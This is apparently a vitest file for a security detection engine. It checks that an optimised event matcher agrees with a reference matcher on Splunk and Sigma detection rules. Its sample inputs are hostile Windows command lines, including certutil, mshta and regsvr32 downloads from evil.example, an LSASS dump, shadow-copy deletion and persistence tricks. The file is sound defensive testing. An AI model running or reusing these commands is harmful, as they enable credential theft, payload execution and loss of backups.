import { existsSync } from "node:fs"

import { describe, expect, it } from "vitest"

import { loadCatalog } from "../catalog/load.node.ts"
import { buildProcessEvents } from "./event.ts"
import { compileCatalog, matchEvent, matchEventReference, type MatchReport, type TesterInput } from "./match.ts"

// The optimised matchEvent (prefilter, untraced verdicts, near-miss pruning) against the
// straightforward reference evaluation, on the default content/.
const compiled = compileCatalog(loadCatalog({ roots: ["content"] }).detections)

const CMDS = [
  'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"',
  "wmic /node:localhost process call create calc.exe",
  "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
  "certutil.exe -urlcache -split -f http://evil.example/p.exe C:\\Users\\Public\\p.exe",
  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
  "notepad.exe a.txt",
  "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe",
  "schtasks /create /tn x /tr c:\\x.exe /sc onlogon /ru system",
  "net user admin P@ss /add",
  "vssadmin delete shadows /all /quiet",
  "mshta http://evil.example/x.hta",
  "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
]

const sets = (r: MatchReport) => ({
  fired: r.fired.map((f) => `${f.id}@${f.shape}`).sort(),
  nearMisses: r.nearMisses.map((n) => `${n.id}@${n.shape}:${n.failed.map((l) => l.id).join(",")}`).sort(),
  undecided: r.undecided.map((u) => `${u.id}@${u.shape}`).sort(),
})

describe("matchEvent agrees with matchEventReference on content/", () => {
  const inputs: Array<[string, TesterInput]> = [
    ...CMDS.map((cmd): [string, TesterInput] => [
      cmd,
      { built: buildProcessEvents({ cmd, parent: "cmd.exe", user: "alice", host: "ws-1" }) },
    ]),
    [
      "pasted sysmon event",
      {
        event: {
          EventCode: 1,
          Image: "C:\\Windows\\System32\\certutil.exe",
          CommandLine: "certutil -urlcache -f http://x y",
        },
      },
    ],
    [
      "pasted registry event",
      {
        event: {
          registry_path: "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
          registry_value_data: "c:\\x.exe",
        },
      },
    ],
  ]
  for (const [label, input] of inputs) {
    it(label, () => {
      for (const nearMisses of [true, false]) {
        const fast = matchEvent(compiled, input, { nearMisses })
        const ref = matchEventReference(compiled, input, { nearMisses })
        expect(sets(fast)).toEqual(sets(ref))
        expect(fast).toEqual(ref)
      }
    })
  }
  it("fires something on the sample inputs (the comparison is not vacuous)", () => {
    const all = inputs.map(([, i]) => matchEvent(compiled, i))
    expect(all.some((r) => r.fired.length > 0)).toBe(true)
    expect(all.some((r) => r.nearMisses.length > 0)).toBe(true)
  })
})

const CORPUS = "../shared/corpora/security_content"
const SIGMA = "../shared/corpora/sigma"
describe.skipIf(!existsSync(CORPUS))(
  "matchEvent agrees with matchEventReference on the corpora (Splunk and, when present, Sigma)",
  () => {
    if (!existsSync(CORPUS)) console.warn(`skipped: ${CORPUS} is absent`)
    const roots = existsSync(SIGMA) ? [CORPUS, SIGMA] : [CORPUS]
    const corpus = existsSync(CORPUS) ? compileCatalog(loadCatalog({ roots }).detections) : undefined
    it("on every sample command line and pasted event", () => {
      const inputs: TesterInput[] = [
        ...CMDS.map((cmd): TesterInput => ({
          built: buildProcessEvents({ cmd, parent: "winword.exe", user: "alice", host: "ws-1" }),
        })),
        {
          event: {
            EventCode: 4688,
            NewProcessName: "C:\\Windows\\System32\\wmic.exe",
            Process_Command_Line: "wmic /node:h process call create x",
          },
        },
        {
          event: {
            EventID: "4688",
            Channel: "Security",
            NewProcessName: "C:\\Windows\\System32\\certutil.exe",
            CommandLine: "certutil -urlcache -f http://x/a a",
          },
        },
        {
          event: {
            EventID: "13",
            Channel: "Microsoft-Windows-Sysmon/Operational",
            TargetObject: "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
            Details: "c:\\users\\public\\x.exe",
          },
        },
      ]
      let fired = 0
      for (const input of inputs) {
        const fast = matchEvent(corpus!, input)
        expect(fast).toEqual(matchEventReference(corpus!, input))
        fired += fast.fired.length
      }
      expect(fired).toBeGreaterThan(10)
    }, 120_000)
  },
)
